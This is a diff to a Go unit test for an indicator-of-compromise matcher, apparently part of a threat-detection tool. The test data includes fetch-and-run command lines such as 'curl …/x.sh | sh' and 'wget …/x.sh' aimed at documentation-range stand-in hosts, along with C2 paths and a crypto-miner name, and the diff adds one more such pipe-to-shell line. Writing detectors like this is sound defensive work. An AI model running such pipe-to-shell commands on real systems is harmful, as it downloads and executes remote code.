@@ -177,14 +177,14 @@ func TestCollection(t *testing.T) {
 
 func TestIndicators(t *testing.T) {
 	in, err := ReadIndicators(strings.NewReader("# list\n203.0.113.80 # c2\n198.51.100.0/24\nevil[.]example\nhxxp://dl.example.org/x.sh\n/tmp/.x/run\nfile,kdev.sh\n" +
-		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\nmd5:d41d8cd98f00b204e9800998ecf8427e\nxmrig\n2001:db8::1\nc2.example.net/gate\n"))
+		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\nmd5:d41d8cd98f00b204e9800998ecf8427e\nxmrig\n2001:db8::1\nc2.example.net/gate\n192.0.2.9:8080/x.sh\n"))
 	if err != nil {
 		t.Fatal(err)
 	}
 	for text, want := range map[string]string{
 		"curl http://203.0.113.80/zzz.sh|sh": "203.0.113.80", "to 198.51.100.7:443 now": "198.51.100.0/24", "GET a.b.evil.example/": "evil[.]example",
 		"wget http://dl.example.org/x.sh": "hxxp://dl.example.org/x.sh", "sh /tmp/.x/run -d": "/tmp/.x/run", "203.0.113.8": "", "203.0.113.801": "",
-		"notevil.example": "", "./xmrig -o": "xmrig", "[2001:db8::1]:80": "2001:db8::1", "GET http://c2.example.net/gate HTTP/1.1": "c2.example.net/gate", "/tmp/.x/runner": "", "": "",
+		"notevil.example": "", "./xmrig -o": "xmrig", "[2001:db8::1]:80": "2001:db8::1", "GET http://c2.example.net/gate HTTP/1.1": "c2.example.net/gate", "curl 192.0.2.9:8080/x.sh | sh": "192.0.2.9:8080/x.sh", "/tmp/.x/runner": "", "": "",
 	} {
 		if got, _, _ := in.Text(text); got != want {
 			t.Errorf("in %q: %q, want %q", text, got, want)
